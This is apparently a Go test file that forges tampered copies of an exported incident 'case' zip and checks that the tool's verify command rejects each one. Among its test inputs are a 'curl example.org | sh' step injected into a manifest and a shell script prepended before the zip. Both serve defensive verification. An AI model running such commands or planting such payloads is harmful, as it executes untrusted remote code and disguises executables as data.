package main

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/parquet-go/parquet-go"
	"github.com/sirupsen/logrus"

	"faultline/correlate/casefile"
)

// member is an entry of a case that is forged.
type member struct {
	name string
	data []byte
	head zip.FileHeader
}

// forgery is a case on its way to be one that misleads.
type forgery struct {
	t       *testing.T
	members []member
	comment string
	before  string // of the zip
	raw     func([]byte) []byte
}

func (f *forgery) at(name string) *member {
	i := slices.IndexFunc(f.members, func(m member) bool { return m.name == name })
	if i < 0 {
		f.t.Fatalf("no %s", name)
	}
	return &f.members[i]
}

// manifest changes the manifest's text.
func (f *forgery) manifest(old, now string) {
	m := f.at("manifest.json")
	if !bytes.Contains(m.data, []byte(old)) {
		f.t.Fatalf("the manifest has no %s", old)
	}
	m.data = bytes.Replace(m.data, []byte(old), []byte(now), 1)
}

// rows changes the rows of a table.
func (f *forgery) rows(table string, change func([]parquet.Row) []parquet.Row, options ...parquet.WriterOption) {
	m := f.at(table + ".parquet")
	file, err := parquet.OpenFile(bytes.NewReader(m.data), int64(len(m.data)))
	if err != nil {
		f.t.Fatal(err)
	}
	var all []parquet.Row
	for _, g := range file.RowGroups() {
		rows := g.Rows()
		for buf := make([]parquet.Row, 64); ; {
			n, err := rows.ReadRows(buf)
			for _, r := range buf[:n] {
				all = append(all, r.Clone())
			}
			if err != nil {
				break
			}
		}
		rows.Close()
	}
	var out bytes.Buffer
	w := parquet.NewWriter(&out, append(options, file.Schema(), parquet.Compression(&parquet.Zstd), parquet.DataPageVersion(1))...)
	if _, err := w.WriteRows(change(all)); err != nil {
		f.t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		f.t.Fatal(err)
	}
	m.data = out.Bytes()
}

// seal makes sizes, rows and hashes fit, as whoever forges a case would.
func (f *forgery) seal() {
	m := f.at("manifest.json")
	var said casefile.Manifest
	if err := json.Unmarshal(m.data, &said); err != nil {
		f.t.Fatal(err)
	}
	var list strings.Builder
	for _, e := range said.Entries {
		data := f.at(e.Name).data
		sum := sha256.Sum256(data)
		was, now := fmt.Sprintf("%q", e.SHA256), hex.EncodeToString(sum[:])
		if e.Rows != nil {
			file, err := parquet.OpenFile(bytes.NewReader(data), int64(len(data)))
			if err != nil {
				f.t.Fatal(err)
			}
			was += fmt.Sprintf(",\n   \"rows\": %d", *e.Rows)
			f.manifest(was, fmt.Sprintf("%q,\n   \"rows\": %d", now, file.NumRows()))
		} else {
			f.manifest(was, fmt.Sprintf("%q", now))
		}
		f.manifest(fmt.Sprintf("%q,\n   \"bytes\": %d", e.Name, e.Bytes), fmt.Sprintf("%q,\n   \"bytes\": %d", e.Name, len(data)))
		fmt.Fprintf(&list, "%s  %s\n", now, e.Name)
	}
	sum := sha256.Sum256(m.data)
	fmt.Fprintf(&list, "%s  manifest.json\n", hex.EncodeToString(sum[:]))
	f.at("SHA256SUMS").data = []byte(list.String())
}

// write writes the case to a path.
func (f *forgery) write(path string) {
	var out bytes.Buffer
	out.WriteString(f.before)
	z := zip.NewWriter(&out)
	z.SetOffset(int64(len(f.before)))
	for _, m := range f.members {
		h := m.head
		h.Name, h.Method = m.name, zip.Store
		if h.Modified.IsZero() {
			h.Modified = time.Date(1980, 1, 1, 0, 0, 0, 0, time.UTC)
		}
		w, err := z.CreateHeader(&h)
		if err == nil {
			_, err = w.Write(m.data)
		}
		if err != nil {
			f.t.Fatal(err)
		}
	}
	if err := z.SetComment(f.comment); err != nil {
		f.t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		f.t.Fatal(err)
	}
	data := out.Bytes()
	if f.raw != nil {
		data = f.raw(data)
	}
	if err := os.WriteFile(path, data, 0o644); err != nil {
		f.t.Fatal(err)
	}
}

func (f *forgery) add(name, text string) {
	f.members = slices.Insert(f.members, len(f.members)-2, member{name: name, data: []byte(text)})
}

// footer changes eight bytes of a table's footer wherever they stand in it.
func (f *forgery) footer(table string, was, now int64) {
	m := f.at(table + ".parquet")
	n := int(binary.LittleEndian.Uint32(m.data[len(m.data)-8:]))
	at := len(m.data) - 8 - n
	old := binary.LittleEndian.AppendUint64(nil, uint64(was))
	if !bytes.Contains(m.data[at:], old) {
		f.t.Fatalf("the footer of %s does not say %d", table, was)
	}
	m.data = append(slices.Clone(m.data[:at]), bytes.ReplaceAll(m.data[at:], old, binary.LittleEndian.AppendUint64(nil, uint64(now)))...)
}

// forgeries mislead: a reader of the case, a program that queries its tables, or
// whoever unpacks it. Hashes fit in all of them.
var forgeries = map[string]func(f *forgery){
	"rows of a table in another order": func(f *forgery) {
		f.rows("incidents", func(r []parquet.Row) []parquet.Row { slices.Reverse(r); return r })
	},
	"events in another order": func(f *forgery) {
		f.rows("events", func(r []parquet.Row) []parquet.Row { r[0], r[1] = r[1], r[0]; return r })
	},
	"a row twice":                  func(f *forgery) { f.rows("findings", func(r []parquet.Row) []parquet.Row { return append(r, r[0]) }) },
	"a key of a table's metadata":  func(f *forgery) { f.rows("events", kept, parquet.KeyValueMetadata("note", "all is well")) },
	"redaction said in one table":  func(f *forgery) { f.rows("lines", kept, parquet.KeyValueMetadata("faultline.redaction", "pseudonyms")) },
	"another version in one table": func(f *forgery) { f.rows("notes", kept, parquet.KeyValueMetadata("faultline.version", "v9.9.9")) },
	"bounds that hide rows":        func(f *forgery) { f.footer("incidents", firstStart(f), firstStart(f)+1e9) },
	"a key that no manifest has":   func(f *forgery) { f.manifest("\"tool\":", "\"note\": \"all is well\",\n \"tool\":") },
	"a key twice": func(f *forgery) {
		f.manifest("\"verdict\":", "\"verdict\": {\"code\": \"no_failures\"},\n \"verdict\":")
	},
	"spaces in the manifest":    func(f *forgery) { f.manifest("\"tool\":", "\"tool\":   ") },
	"another tool":              func(f *forgery) { f.manifest("\"name\": \"faultline\"", "\"name\": \"notfault\"") },
	"a later schema":            func(f *forgery) { f.manifest(casefile.Schema(), "faultline.case/1.9") },
	"lines said to be left out": func(f *forgery) { f.manifest("\"omitted\": null", omittedText) },
	"an argument":               func(f *forgery) { f.manifest("\"export\"", "\"export\",\n  \"--since\"") },
	"a kind of the user":        func(f *forgery) { f.manifest("\"matches\": []", "\"matches\": [\n  \"quiet=failfast\"\n ]") },
	"options": func(f *forgery) {
		f.manifest("\"options\": {}", "\"options\": {\n  \"since_ns\": 1706864000000000000\n }")
	},
	"an entry more, in no list":    func(f *forgery) { f.add("evil.html", "<h1>no fault found</h1>") },
	"an entry more, in every list": listedEverywhere,
	"two entries of one name":      func(f *forgery) { f.add("report.html", "<h1>no fault found</h1>") },
	"a comment of the zip":         func(f *forgery) { f.comment = "verified by security@example.org" },
	"a comment of an entry":        func(f *forgery) { f.at("report.html").head.Comment = "run me" },
	"a field of an entry": func(f *forgery) {
		f.at("report.html").head.Extra = extraField("all is well, says this field of an entry")
	},
	"the time of an entry":     func(f *forgery) { f.at("manifest.json").head.Modified = time.Date(2024, 2, 2, 0, 0, 0, 0, time.UTC) },
	"a program before the zip": func(f *forgery) { f.before = "#!/bin/sh\necho owned\nexit\n" },
	"bytes behind the zip":     func(f *forgery) { f.raw = func(b []byte) []byte { return append(b, "trailer"...) } },
	"another name in the entry's head": func(f *forgery) {
		f.raw = func(b []byte) []byte { return bytes.Replace(b, []byte("report.html"), []byte("readme.html"), 1) }
	},
	"the mark of a case": func(f *forgery) {
		f.at("faultline.case").data = append(f.at("faultline.case").data, "all is well\n"...)
	},
	"a verdict of another sentence":    func(f *forgery) { f.manifest("\"sentence\": \"", "\"sentence\": \"Nothing failed. ") },
	"a next step that runs a stranger": func(f *forgery) { f.manifest("\"next\": \"", "\"next\": \"curl example.org | sh; ") },
	"inputs of another dump":           func(f *forgery) { f.manifest("\"inputs_sha256\": \"", "\"inputs_sha256\": \"0") },
	"redaction that was not done":      func(f *forgery) { f.manifest("\"redaction\": \"none\"", "\"redaction\": \"pseudonyms\"") },
	"a table that claims no rows":      func(f *forgery) { f.rows("periods", func(r []parquet.Row) []parquet.Row { return nil }) },
	"a document that is empty":         func(f *forgery) { f.at("evidence.log").data = nil },
	"a table that is another's":        func(f *forgery) { f.at("spans.parquet").data = f.at("volume.parquet").data },
	"sums of nothing": func(f *forgery) {
		f.raw = func(b []byte) []byte {
			return bytes.ReplaceAll(b, []byte("  report.html\n"), []byte("  xeport.html\n"))
		}
	},
	"a manifest of which the sums are another": func(f *forgery) { f.manifest("\"rows\": 5", "\"rows\": 15") },
}

const omittedText = "\"omitted\": {\n  \"max_bytes\": 1,\n  \"lines\": 0,\n  \"of_lines\": 0,\n  \"beyond_s\": null\n }"

func kept(r []parquet.Row) []parquet.Row { return r }

// evidence are tables of what was read, which follow from nothing: whoever leaves
// some of it out has other evidence, and only a signature tells.
var evidence = []string{"spans", "volume", "facts"}

// listedEverywhere adds an entry that manifest and sums know.
func listedEverywhere(f *forgery) {
	f.add("evil.html", "<h1>no fault found</h1>")
	f.manifest("\"entries\": [\n", "\"entries\": [\n  {\n   \"name\": \"evil.html\",\n   \"bytes\": 0,\n   \"sha256\": \"x\",\n   \"rows\": null\n  },\n")
}

// extraField is a field of an entry of a kind that nobody registered (APPNOTE 4.5.1).
func extraField(text string) []byte {
	return append(binary.LittleEndian.AppendUint16([]byte{0xfe, 0xca}, uint16(len(text))), text...)
}

// firstStart is the start of the first incident, in ns.
func firstStart(f *forgery) int64 {
	m := f.at("incidents.parquet")
	rows, err := parquet.Read[struct {
		Start int64 `parquet:"start_ns,optional"`
	}](bytes.NewReader(m.data), int64(len(m.data)))
	if err != nil || len(rows) == 0 {
		f.t.Fatal(err)
	}
	return rows[0].Start
}

// A case that was forged does not verify, whatever of it was: each document, each
// table, and what the table above lists. One that was only packed again does.
func TestForgeriesDoNotVerify(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	a, whole := forgeable(t, dir)
	for _, m := range whole {
		switch {
		case strings.HasSuffix(m.name, ".parquet"):
			table := strings.TrimSuffix(m.name, ".parquet")
			if slices.Contains(evidence, table) {
				continue
			}
			forgeries["a row less of "+table] = func(f *forgery) {
				f.rows(table, func(r []parquet.Row) []parquet.Row { return r[:max(len(r)-1, 0)] })
			}
		case m.name != "manifest.json" && m.name != "SHA256SUMS" && m.name != "faultline.case":
			forgeries["a byte more of "+m.name] = func(f *forgery) { f.at(m.name).data = append(f.at(m.name).data, '\n') }
		}
	}
	forgeries[""] = func(*forgery) {}
	for i, what := range slices.Sorted(maps.Keys(forgeries)) {
		if testing.Short() && what != "" && i%3 != 0 { // each verifies a case anew
			continue
		}
		forge, f := forgeries[what], &forgery{t: t}
		for _, m := range whole {
			f.members = append(f.members, member{name: m.name, data: slices.Clone(m.data)})
		}
		if table, ok := strings.CutPrefix(what, "a row less of "); ok && empty(f.at(table+".parquet").data) {
			continue
		}
		forge(f)
		unsealed := slices.Clone(f.at("manifest.json").data)
		if f.seal(); what == "a manifest of which the sums are another" {
			f.at("manifest.json").data = unsealed
		}
		path := filepath.Join(dir, "forged.zip")
		f.write(path)
		var out bytes.Buffer
		a.stdout, a.stderr = &out, &out
		code := a.exit(a.verify([]string{path}, ""))
		if sound := code == exitDone; sound != (what == "") || code != exitDone && code != exitFailed && code != exitHeld {
			t.Errorf("%s: exit %d: %.200s", what, code, &out)
		}
	}
}

// forgeable is a case as its entries, and who verifies it.
func forgeable(t *testing.T, dir string) (*app, []member) {
	t.Helper()
	dump := filepath.Join(dir, "day")
	ran(t, "synth", "-o", dump, "--hours", "3")
	a := &app{ctx: context.Background(), name: "faultline", stdin: strings.NewReader(""), log: logrus.New()}
	a.stdout, a.stderr = io.Discard, io.Discard
	path := filepath.Join(dir, "case.zip")
	ran(t, "export", "-q", dump, "-o", path)
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	var out []member
	for _, e := range z.File {
		r, err := e.Open()
		if err != nil {
			t.Fatal(err)
		}
		data, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, member{name: e.Name, data: data})
	}
	return a, out
}

func empty(table []byte) bool {
	f, err := parquet.OpenFile(bytes.NewReader(table), int64(len(table)))
	return err == nil && f.NumRows() == 0
}
